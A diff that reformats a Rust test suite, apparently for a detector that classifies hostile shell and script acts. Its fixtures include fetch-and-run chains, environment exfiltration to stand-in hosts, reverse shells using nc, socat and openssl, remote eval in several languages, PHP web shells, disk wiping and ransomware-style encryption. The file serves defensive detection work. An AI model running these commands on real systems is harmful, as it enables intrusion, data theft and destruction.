@@ -19,18 +19,31 @@ fn told(language: Language, text: &str) -> Vec<String> {
                 let cargo = Cargo(cargo);
                 let mut what = String::new();
                 let bits = [
-                    (Cargo::ENVIRONMENT, 'e'), (Cargo::TOKEN, 't'), (Cargo::METADATA, 'm'), (Cargo::ADDRESS, 'a'),
-                    (Cargo::MACHINE, 'p'), (Cargo::PROCESSES, 'x'), (Cargo::ENCODED, 'b'),
+                    (Cargo::ENVIRONMENT, 'e'),
+                    (Cargo::TOKEN, 't'),
+                    (Cargo::METADATA, 'm'),
+                    (Cargo::ADDRESS, 'a'),
+                    (Cargo::MACHINE, 'p'),
+                    (Cargo::PROCESSES, 'x'),
+                    (Cargo::ENCODED, 'b'),
                 ];
                 what.extend(bits.iter().filter(|(bit, _)| cargo.has(*bit)).map(|(_, letter)| *letter));
                 format!("Sends({what}{})", cargo.stores())
             }
             Deed::RunsFetched { made_executable, verified } => {
-                format!("RunsFetched{}{}", if made_executable { "+x" } else { "" }, if verified { "+v" } else { "" })
+                format!(
+                    "RunsFetched{}{}",
+                    if made_executable { "+x" } else { "" },
+                    if verified { "+v" } else { "" }
+                )
             }
             deed => format!("{deed:?}"),
         };
-        let host = act.remote.as_ref().map(|remote| format!(" {}", model::escape_bytes(&remote.host))).unwrap_or_default();
+        let host = act
+            .remote
+            .as_ref()
+            .map(|remote| format!(" {}", model::escape_bytes(&remote.host)))
+            .unwrap_or_default();
         format!("{} {deed}{host}", act.line)
     })
     .collect()
@@ -76,10 +89,19 @@ fn downloads_are_followed_into_interpreters() {
 #[test]
 fn downloads_are_followed_into_files() {
     check("cd /tmp\nwget http://h.example/x\nchmod 755 x\n./x\n", &["4 RunsFetched+x h.example"]);
-    check("curl -o /tmp/x http://h.example/y && chmod +x /tmp/x && /tmp/x -a &\n", &["1 RunsFetched+x h.example"]);
+    check(
+        "curl -o /tmp/x http://h.example/y && chmod +x /tmp/x && /tmp/x -a &\n",
+        &["1 RunsFetched+x h.example"],
+    );
     check("curl -sSLO https://h.example/x.sh; sh x.sh\n", &["1 RunsFetched h.example"]);
-    check("wget -q https://h.example/x -O \"$T/y\"\nchmod a+x \"$T/y\"\nnohup \"$T/y\" &\n", &["3 RunsFetched+x h.example"]);
-    check("curl https://h.example/x > /x\nmv /x /usr/bin/y\nchmod +x /usr/bin/y\nexec /usr/bin/y\n", &["4 RunsFetched+x h.example"]);
+    check(
+        "wget -q https://h.example/x -O \"$T/y\"\nchmod a+x \"$T/y\"\nnohup \"$T/y\" &\n",
+        &["3 RunsFetched+x h.example"],
+    );
+    check(
+        "curl https://h.example/x > /x\nmv /x /usr/bin/y\nchmod +x /usr/bin/y\nexec /usr/bin/y\n",
+        &["4 RunsFetched+x h.example"],
+    );
     check(
         "curl -o g https://h.example/g\ncurl -o g.asc https://h.example/g.asc\ngpg --verify g.asc g\nchmod +x g\n./g\n",
         &["5 RunsFetched+x+v h.example"],
@@ -95,7 +117,10 @@ fn downloads_are_followed_into_files() {
 fn what_goes_out_is_known() {
     check("env | base64 | curl -d @- https://h.example/\n", &["1 Sends(eb0) h.example"]);
     check("curl -X POST --data \"$(printenv)\" https://h.example/\n", &["1 Sends(e0) h.example"]);
-    check("D=$(env | gzip | base64 -w0)\nwget -q -O- \"https://h.example/?d=$D\"\n", &["2 Sends(eb0) h.example"]);
+    check(
+        "D=$(env | gzip | base64 -w0)\nwget -q -O- \"https://h.example/?d=$D\"\n",
+        &["2 Sends(eb0) h.example"],
+    );
     check("env > /tmp/e\ncurl -F f=@/tmp/e https://h.example/\n", &["2 Sends(e0) h.example"]);
     check("set | nc 192.0.2.7 99\n", &["1 Sends(e0) 192.0.2.7"]);
     check("env | while read l; do curl -d \"$l\" https://h.example/; done\n", &["1 Sends(e0) h.example"]);
@@ -129,7 +154,10 @@ fn connected_shells_are_seen() {
         ("nc -e /bin/sh 192.0.2.7 4444\n", "192.0.2.7"),
         ("ncat h.example 99 --sh-exec /bin/bash\n", "h.example"),
         ("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n", "192.0.2.7"),
-        ("mkfifo /tmp/f; /bin/sh < /tmp/f 2>&1 | openssl s_client -quiet -connect h.example:443 > /tmp/f\n", "h.example"),
+        (
+            "mkfifo /tmp/f; /bin/sh < /tmp/f 2>&1 | openssl s_client -quiet -connect h.example:443 > /tmp/f\n",
+            "h.example",
+        ),
         ("telnet 192.0.2.7 1 | /bin/sh | telnet 192.0.2.7 2\n", "192.0.2.7"),
         ("socat TCP:192.0.2.7:4444 EXEC:'/bin/bash -li',pty,stderr\n", "192.0.2.7"),
         (
@@ -161,14 +189,26 @@ fn connected_shells_are_seen() {
 #[test]
 fn other_languages_yield_the_same_acts() {
     use Language::{JavaScript, Perl, Php, Python, Ruby};
-    check_code(Python, "import urllib.request\nexec(urllib.request.urlopen('https://h.example/x').read())\n", &["2 Evaluates h.example"]);
-    check_code(Python, "import requests\nu = 'https://h.example/x'\nc = requests.get(u).text\neval(compile(c, 'x', 'exec'))\n", &["4 Evaluates h.example"]);
+    check_code(
+        Python,
+        "import urllib.request\nexec(urllib.request.urlopen('https://h.example/x').read())\n",
+        &["2 Evaluates h.example"],
+    );
+    check_code(
+        Python,
+        "import requests\nu = 'https://h.example/x'\nc = requests.get(u).text\neval(compile(c, 'x', 'exec'))\n",
+        &["4 Evaluates h.example"],
+    );
     check_code(
         Python,
         "import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://h.example/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nsubprocess.Popen(['/tmp/x'])\n",
         &["4 RunsFetched+x h.example"],
     );
-    check_code(Python, "import os\nos.system('curl -s https://h.example/x | sh')\n", &["2 Interprets h.example"]);
+    check_code(
+        Python,
+        "import os\nos.system('curl -s https://h.example/x | sh')\n",
+        &["2 Interprets h.example"],
+    );
     check_code(
         Python,
         "import requests, os\nrequests.post('https://h.example/c', json=dict(os.environ))\n",
@@ -189,7 +229,11 @@ fn other_languages_yield_the_same_acts() {
         "const https = require('https');\nhttps.get('https://h.example/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)); });\n",
         &["2 Evaluates h.example"],
     );
-    check_code(JavaScript, "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t));\n", &["1 Evaluates h.example"]);
+    check_code(
+        JavaScript,
+        "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t));\n",
+        &["1 Evaluates h.example"],
+    );
     check_code(
         JavaScript,
         "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4, '192.0.2.7', () => { c.pipe(sh.stdin); });\n",
@@ -199,12 +243,32 @@ fn other_languages_yield_the_same_acts() {
     check_code(Php, "<?php system($_GET['c']);\n", &["1 RunsRequest"]);
     check_code(Php, "<?php @eval(base64_decode($_POST['x']));\n", &["1 RunsRequest"]);
     check_code(Perl, "use LWP::Simple;\neval get('https://h.example/x');\n", &["2 Evaluates h.example"]);
-    check_code(Ruby, "require 'open-uri'\neval(URI.open('https://h.example/x').read)\n", &["2 Evaluates h.example"]);
+    check_code(
+        Ruby,
+        "require 'open-uri'\neval(URI.open('https://h.example/x').read)\n",
+        &["2 Evaluates h.example"],
+    );
     // What only looks like it.
-    check_code(Python, "import requests, json\nd = requests.get('https://h.example/x').json()\nprint(d)\nexec(open('/a').read())\n", &[]);
-    check_code(Python, "# exec(urlopen('https://h.example/x').read())\ns = \"eval(urlopen('http://h.example'))\"\n", &[]);
-    check_code(JavaScript, "app.get('/x', (q, s) => { fetch('https://h.example/' + q.x).then(r => s.send(r)); });\nconst m = /x/.exec(y);\n", &[]);
-    check_code(Python, "import os, requests\nrequests.post('https://h.example/', json={'k': os.environ['K'], 'j': os.environ.get('J')})\n", &["2 Sends(0) h.example"]);
+    check_code(
+        Python,
+        "import requests, json\nd = requests.get('https://h.example/x').json()\nprint(d)\nexec(open('/a').read())\n",
+        &[],
+    );
+    check_code(
+        Python,
+        "# exec(urlopen('https://h.example/x').read())\ns = \"eval(urlopen('http://h.example'))\"\n",
+        &[],
+    );
+    check_code(
+        JavaScript,
+        "app.get('/x', (q, s) => { fetch('https://h.example/' + q.x).then(r => s.send(r)); });\nconst m = /x/.exec(y);\n",
+        &[],
+    );
+    check_code(
+        Python,
+        "import os, requests\nrequests.post('https://h.example/', json={'k': os.environ['K'], 'j': os.environ.get('J')})\n",
+        &["2 Sends(0) h.example"],
+    );
 }
 
 #[test]
@@ -227,7 +291,10 @@ fn impairment_is_seen() {
     check("docker -H unix:///var/run/docker.sock run --privileged -v /:/mnt alpine\n", &["1 TakesHost"]);
     check("insmod /lib/x.ko\n", &["1 LoadsModule"]);
     check("dd if=/dev/zero of=/dev/sda bs=1M\n", &["1 Wipes"]);
-    check("for f in $(find /data -type f); do openssl enc -aes-256-cbc -in $f -out $f.x -k y; done\nrm -rf /backup\n", &["1 Encrypts", "2 DeletesBackups"]);
+    check(
+        "for f in $(find /data -type f); do openssl enc -aes-256-cbc -in $f -out $f.x -k y; done\nrm -rf /backup\n",
+        &["1 Encrypts", "2 DeletesBackups"],
+    );
     check("for t in $(cat ips); do docker -H tcp://$t:2375 run -d x; done\n", &["1 Spreads"]);
     check("masscan 10.0.0.0/8 -p2375\n", &["1 Scans"]);
     check("[ -f /.dockerenv ] && exit 0\nsleep 600\n", &["1 LooksForSandbox", "1 Leaves", "2 Waits"]);
@@ -241,10 +308,23 @@ fn hosts_are_told_apart() {
     for loopback in ["http://localhost:80/x", "http://127.0.0.1", "http://[::1]:8080/", "http://0.0.0.0:1/"] {
         check(loopback, HostKind::Loopback);
     }
-    for private in ["http://10.1.2.3/", "http://172.17.0.1/", "http://db:80/", "https://x.svc.cluster.local/", "http://[fd00::1]/"] {
+    for private in [
+        "http://10.1.2.3/",
+        "http://172.17.0.1/",
+        "http://db:80/",
+        "https://x.svc.cluster.local/",
+        "http://[fd00::1]/",
+    ] {
         check(private, HostKind::Private);
     }
-    for address in ["http://192.0.2.1/", "http://user@198.51.100.2:8/", "http://3221225985/", "http://0xc0000201/", "http://0300.0.2.1/", "http://[2001:db8::1]/x"] {
+    for address in [
+        "http://192.0.2.1/",
+        "http://user@198.51.100.2:8/",
+        "http://3221225985/",
+        "http://0xc0000201/",
+        "http://0300.0.2.1/",
+        "http://[2001:db8::1]/x",
+    ] {
         check(address, HostKind::Address);
     }
     check("http://169.254.169.254/latest", HostKind::Metadata);
@@ -291,10 +371,33 @@ fn hostile_input_is_bounded() {
         assert!(start.elapsed().as_secs() < 20, "{}", &text[..40]);
     }
     let head = "http exec eval\n";
-    for text in ["(", "f(", "[", "x=", "eval(", "'", "\"\"\"", "`", "a.b", "x=(y,", "{", "exec(urlopen(\"http://h.example\"", ".", "\\"] {
-        for language in [Language::Python, Language::JavaScript, Language::Perl, Language::Ruby, Language::Php, Language::Lua] {
+    for text in [
+        "(",
+        "f(",
+        "[",
+        "x=",
+        "eval(",
+        "'",
+        "\"\"\"",
+        "`",
+        "a.b",
+        "x=(y,",
+        "{",
+        "exec(urlopen(\"http://h.example\"",
+        ".",
+        "\\",
+    ] {
+        for language in [
+            Language::Python,
+            Language::JavaScript,
+            Language::Perl,
+            Language::Ruby,
+            Language::Php,
+            Language::Lua,
+        ] {
             let start = std::time::Instant::now();
-            let (acts, _) = acts_of(language, format!("{head}{}", long(text, 60_000 / text.len())).as_bytes());
+            let (acts, _) =
+                acts_of(language, format!("{head}{}", long(text, 60_000 / text.len())).as_bytes());
             assert!(acts.len() <= MAX_ACTS);
             assert!(start.elapsed().as_secs() < 20, "{language:?} {text}");
         }
